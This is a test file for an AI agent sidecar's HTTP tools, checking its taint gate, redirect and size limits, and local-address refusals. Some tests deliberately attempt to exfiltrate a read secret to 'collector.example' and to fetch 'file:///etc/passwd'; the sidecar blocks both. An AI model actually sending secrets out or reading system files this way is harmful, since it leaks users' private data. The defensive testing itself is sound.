import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { answerAndWait, callTool, makeTempDir, metricValue, parseJsonLines, scrapeMetrics, startSidecar, type SidecarProcess } from "./sidecar-harness.ts";

// web_fetch, http_get and http_post as the sidecar runs them, end to end on real parts: the real standalone sidecar
// (a process), a real node:http server as the target, /v1 over HTTP and /mcp with the official MCP client. Two
// sidecars: one whose policy allows local addresses (the target is on loopback), with a 1 s HTTP deadline; one with
// the defaults (local addresses refused), headless, where the target-scoped allowlist decides after a private read.
let root: string;
let target: Server;
let port: number;
const received: { method: string; url: string; body: string }[] = [];
const held: ServerResponse[] = [];

function serve(req: IncomingMessage, body: string, res: ServerResponse): void {
  received.push({ method: req.method ?? "", url: req.url ?? "", body });
  const path = req.url ?? "/";
  if (path === "/page") return void res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end("<p>the page</p>");
  if (path === "/hook") return void res.writeHead(202, { "content-type": "application/json" }).end(JSON.stringify({ got: body }));
  if (path === "/same") return void res.writeHead(301, { location: "/page" }).end();
  if (path === "/elsewhere") return void res.writeHead(302, { location: `http://localhost:${port}/page` }).end("redirect body");
  if (path === "/big") {
    res.writeHead(200, { "content-type": "text/plain" });
    for (let i = 0; i < 12; i++) res.write("b".repeat(100_000));
    return void res.end();
  }
  if (path === "/never") return void held.push(res);
  res.writeHead(404).end();
}

function tree(name: string, config: string, policy = ""): { args: string[]; audit: string; env: Record<string, string> } {
  const dir = join(root, name);
  mkdirSync(join(dir, "home", "vault"), { recursive: true });
  mkdirSync(join(dir, "work"), { recursive: true });
  writeFileSync(join(dir, "home", "vault", "secret.txt"), "vault secret\n");
  writeFileSync(join(dir, "agent.leviath"), `[agent]\nname = '${name}'\n[read_paths]\nallow = ['~/vault']\n[security]\ntaint_tracking = true\n`);
  writeFileSync(join(dir, "config.toml"), `[tool_permissions]\nweb_fetch = 'allow'\nhttp_get = 'allow'\nhttp_post = 'allow'\n[agent_read_paths.${name}]\nallow = ['~/vault']\n${config}`);
  writeFileSync(join(dir, "policy.toml"), policy);
  const args = ["--agent", join(dir, "agent.leviath"), "--config", join(dir, "config.toml"), "--policy", join(dir, "policy.toml"), "--workdir", join(dir, "work"), "--audit-dir", join(dir, "audit"), "--metrics-listen", "127.0.0.1:0"];
  return { args, audit: join(dir, "audit", name, "stages", "0"), env: { LEVIATH_HOME: join(dir, "home") } };
}

const body = (result: string | undefined) => (result ?? "").split("\n\n").slice(1).join("\n\n");

beforeAll(async () => {
  root = makeTempDir("leviath-sidecar-http-");
  target = createServer((req, res) => {
    let text = "";
    req.on("data", (c: Buffer) => (text += c.toString("utf8")));
    req.on("end", () => serve(req, text, res));
  });
  await new Promise<void>((r) => target.listen(0, "127.0.0.1", r));
  port = (target.address() as AddressInfo).port;
});

afterAll(async () => {
  for (const res of held) res.destroy();
  target.closeAllConnections();
  await new Promise((r) => target.close(r));
});

describe("a policy that allows local addresses (interactive)", () => {
  let sc: SidecarProcess;
  let t: ReturnType<typeof tree>;
  const url = (path: string) => `http://127.0.0.1:${port}${path}`;
  beforeAll(async () => {
    t = tree("local", "[security]\nallow_local_network = true\n[limits]\nscript_http_timeout_secs = 1\n");
    sc = await startSidecar(t.args, { env: t.env });
  }, 60_000);
  afterAll(async () => {
    expect(await sc.stop()).toBe(0);
  });

  it("GETs a page over /v1: the status and headers, then the body, labelled public", async () => {
    const r = await callTool(sc, "web_fetch", { url: url("/page") }, "g1");
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ decision: "allow", isError: false, label: "public", taint: "public" });
    expect(r.body.result).toMatch(/^HTTP 200 OK\ncontent-type: text\/html; charset=utf-8\n/);
    expect(body(r.body.result)).toBe("<p>the page</p>");
    const line = parseJsonLines(readFileSync(join(t.audit, "decisions.jsonl"), "utf8")).find((d) => d["call_id"] === "g1");
    expect(line).toMatchObject({ tool_name: "web_fetch", decision: "allow", target: "127.0.0.1" });
  });

  it("POSTs a body with http_post", async () => {
    const r = await callTool(sc, "http_post", { url: url("/hook"), body: "hello hook", headers: { "x-run": "local" } });
    expect(r.body).toMatchObject({ decision: "allow", isError: false });
    expect(r.body.result).toMatch(/^HTTP 202 Accepted\n/);
    expect(JSON.parse(body(r.body.result))).toEqual({ got: "hello hook" });
    expect(received.at(-1)).toEqual({ method: "POST", url: "/hook", body: "hello hook" });
  });

  it("follows a redirect on the same host, and never one to another host", async () => {
    expect(body((await callTool(sc, "http_get", { url: url("/same") })).body.result)).toBe("<p>the page</p>");
    const before = received.length;
    const off = await callTool(sc, "web_fetch", { url: url("/elsewhere") });
    expect(off.body).toMatchObject({ decision: "allow", isError: true });
    expect(off.body.result).toMatch(/^HTTP 302 Found\n/);
    expect(off.body.result).toContain(`[redirect not followed] it leads to 'localhost', not to '127.0.0.1', the host this call was allowed for`);
    expect(off.body.result).not.toContain("the page");
    expect(off.body.result).not.toContain("redirect body");
    expect(received.slice(before).map((r) => r.url)).toEqual(["/elsewhere"]);
  });

  it("cuts an oversized body at the cap", async () => {
    const r = await callTool(sc, "http_get", { url: url("/big") });
    const text = body(r.body.result);
    expect(text).toBe(`${"b".repeat(900_000)}\n[...truncated by leviath: response exceeded 900 KB]`);
  });

  it("fails closed on a server that never answers: stopped at the policy's deadline, nothing given back", async () => {
    const r = await callTool(sc, "web_fetch", { url: url("/never") });
    expect(r.body).toMatchObject({ decision: "allow", isError: true, result: "[error] Tool 'web_fetch' to '127.0.0.1' did not finish within 1 s; it was stopped and nothing it read is given back." });
  });

  it("refuses a malformed URL with invalid-arguments, before any decision and without a request", async () => {
    const before = received.length;
    for (const [bad, why] of [["ftp://127.0.0.1/x", "only http and https"], [`http://user:pw@127.0.0.1:${port}/page`, "userinfo"], ["http://0x7f.1/", "four decimal numbers"], ["not a url", "whitespace"]]) {
      const r = await callTool(sc, "http_get", { url: bad });
      expect(r.status, bad).toBe(400);
      expect(r.body.code).toBe("invalid-arguments");
      expect(r.body.message).toMatch(/^\[error\] Invalid arguments for 'http_get': url: /);
      expect(r.body.message).toContain(why);
    }
    expect(received.length).toBe(before);
  });

  it("after a private read, http_post asks at the gate; a deny refuses it with upstream's text and nothing is sent", async () => {
    await callTool(sc, "read_file", { path: join(root, "local", "home", "vault", "secret.txt") });
    const before = received.length;
    const ask = await callTool(sc, "http_post", { url: url("/hook"), body: "vault secret" }, "p1");
    expect(ask.status).toBe(202);
    expect(ask.body.approval).toMatchObject({ id: "gate-p1", kind: "taint_gate", prompt: "Tool 'http_post' would send Private-level data over a channel cleared only for Public. Allow it?" });
    const denied = await answerAndWait(sc, "gate-p1", "p1", "deny");
    expect(denied.status).toBe(403);
    expect(denied.body).toMatchObject({ code: "gate-denied", message: "[blocked] Tool 'http_post' would send data at private sensitivity, above its public clearance. Denied by user." });
    expect(received.length).toBe(before);
    const gate = parseJsonLines(readFileSync(join(t.audit, "taint_audit.jsonl"), "utf8")).slice(-2);
    expect(gate.map((e) => [e["tool_name"], e["taint_level"], e["decision_source"]])).toEqual([["http_post", "Private", "AutoBlock"], ["http_post", "Private", "UserDenied"]]);
  });

  it("is offered over /mcp to the official client, with the same results, refusals and _meta as /v1", async () => {
    const client = new Client({ name: "leviath-test", version: "1.0.0" });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${sc.url}/mcp`), { requestInit: { headers: { authorization: `Bearer ${sc.runtimeToken}` } } }));
    try {
      const { tools } = await client.listTools();
      const http = tools.filter((x) => ["web_fetch", "http_get", "http_post"].includes(x.name));
      expect(http.map((x) => x.name)).toEqual(["web_fetch", "http_get", "http_post"]);
      expect(http[2]).toMatchObject({ inputSchema: { properties: { url: { type: "string" }, body: { type: "string" } }, required: ["url", "body"] }, annotations: { openWorldHint: true, readOnlyHint: false } });
      // The context is private (the read above): web_fetch is outbound too, so the gate asks; a deny over MCP is the block text.
      const pending = client.callTool({ name: "web_fetch", arguments: { url: url("/page") } }) as Promise<CallToolResult>;
      await answerPendingGate(sc, "web_fetch", "allowOnce");
      const ok = await pending;
      expect(ok.isError).toBe(false);
      expect((ok.content[0] as { text: string }).text).toMatch(/^HTTP 200 OK\n[\s\S]*\n\n<p>the page<\/p>$/);
      expect(ok._meta?.["leviath.dev/label"]).toMatchObject({ label: "public", taint: "private" });
      const bad = (await client.callTool({ name: "http_get", arguments: { url: "file:///etc/passwd" } })) as CallToolResult;
      expect(bad).toMatchObject({ isError: true, _meta: { "leviath.dev/refusal": { code: "invalid-arguments", source: "invalid_arguments" } } });
      expect((bad.content[0] as { text: string }).text).toBe("[error] Invalid arguments for 'http_get': url: only http and https URLs are fetched, not 'file'");
    } finally {
      await client.close();
    }
  });

  it("counts every call in the metrics", async () => {
    const m = await scrapeMetrics(sc);
    expect(metricValue(m, "leviath_sidecar_http_tool_calls_total", { tool: "web_fetch", outcome: "ok" })).toBe(2);
    expect(metricValue(m, "leviath_sidecar_http_tool_calls_total", { tool: "web_fetch", outcome: "redirect_refused" })).toBe(1);
    expect(metricValue(m, "leviath_sidecar_http_tool_calls_total", { tool: "web_fetch", outcome: "timed_out" })).toBe(1);
    expect(metricValue(m, "leviath_sidecar_http_tool_calls_total", { tool: "http_get", outcome: "truncated" })).toBe(1);
    expect(metricValue(m, "leviath_sidecar_decisions_total", { decision: "deny", source: "invalid_arguments", tool_class: "outbound", mode: "interactive" })).toBe(5);
  });
});

/** Answers the taint-gate prompt pending for `tool` with the approval token. */
async function answerPendingGate(sc: SidecarProcess, tool: string, decision: string): Promise<void> {
  for (;;) {
    const list = (await (await fetch(`${sc.url}/v1/approvals`, { headers: { authorization: `Bearer ${sc.runtimeToken}` } })).json()) as { approvals: { id: string; tool: string }[] };
    const pending = list.approvals.find((a) => a.tool === tool);
    if (pending !== undefined) {
      const r = await fetch(`${sc.url}/v1/approvals/${pending.id}`, { method: "POST", headers: { "content-type": "application/json", authorization: `Bearer ${sc.token}` }, body: JSON.stringify({ decision }) });
      expect(r.status).toBe(200);
      return;
    }
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe("the default policy (local addresses refused), headless, with a target-scoped allowlist", () => {
  let sc: SidecarProcess;
  let t: ReturnType<typeof tree>;
  beforeAll(async () => {
    t = tree("remote", "", "[[allowlist]]\ntool = 'http_post'\nto = ['localhost']\nmax_sensitivity = 'private'\n");
    sc = await startSidecar([...t.args, "--mode", "headless"], { env: t.env });
  }, 60_000);
  afterAll(async () => {
    expect(await sc.stop()).toBe(0);
  });

  it("refuses a local address the policy does not allow, with a code, and sends nothing", async () => {
    const before = received.length;
    const r = await callTool(sc, "http_get", { url: `http://127.0.0.1:${port}/page` }, "l1");
    expect(r.status).toBe(403);
    expect(r.body).toMatchObject({
      decision: "deny", code: "local-address",
      message: "[denied] Tool 'http_get': '127.0.0.1' resolves to 127.0.0.1, a local address, and this policy does not allow local network access (allowLocalNetwork); nothing was sent there.",
    });
    expect(received.length).toBe(before);
    const lines = parseJsonLines(readFileSync(join(t.audit, "decisions.jsonl"), "utf8")).filter((d) => d["call_id"] === "l1");
    // The allow is on record before anything is sent (as for shell); the address check then refuses it, on record too.
    expect(lines.map((d) => [d["decision"], d["decision_source"]])).toEqual([["allow", "auto_allow"], ["deny", "local_network"]]);
    expect(lines.at(-1)).toMatchObject({ code: "local-address" });
  });

  it("after a private read the gate blocks a host the allowlist does not name, with upstream's headless text", async () => {
    await callTool(sc, "read_file", { path: join(root, "remote", "home", "vault", "secret.txt") });
    const blocked = await callTool(sc, "http_post", { url: "https://collector.example/upload", body: "vault secret" });
    expect(blocked.status).toBe(403);
    expect(blocked.body).toMatchObject({
      code: "gate-blocked",
      message: "[blocked] Tool 'http_post' would send Private-level data over a channel cleared only for Public (tainted by: conversation). Add an allowlist rule with `lev policy add` to permit it.",
    });
    // The allowlisted host passes the gate; its address is still checked (local here, so refused after the gate).
    const named = await callTool(sc, "http_post", { url: `http://localhost:${port}/hook`, body: "x" });
    expect(named.body).toMatchObject({ code: "local-address" });
    const gate = parseJsonLines(readFileSync(join(t.audit, "taint_audit.jsonl"), "utf8")).filter((e) => e["tool_name"] === "http_post");
    expect(gate.map((e) => e["decision_source"])).toEqual(["AutoBlock", "AutoBlock", { AllowlistRule: { rule_index: 0 } }]);
  });
});
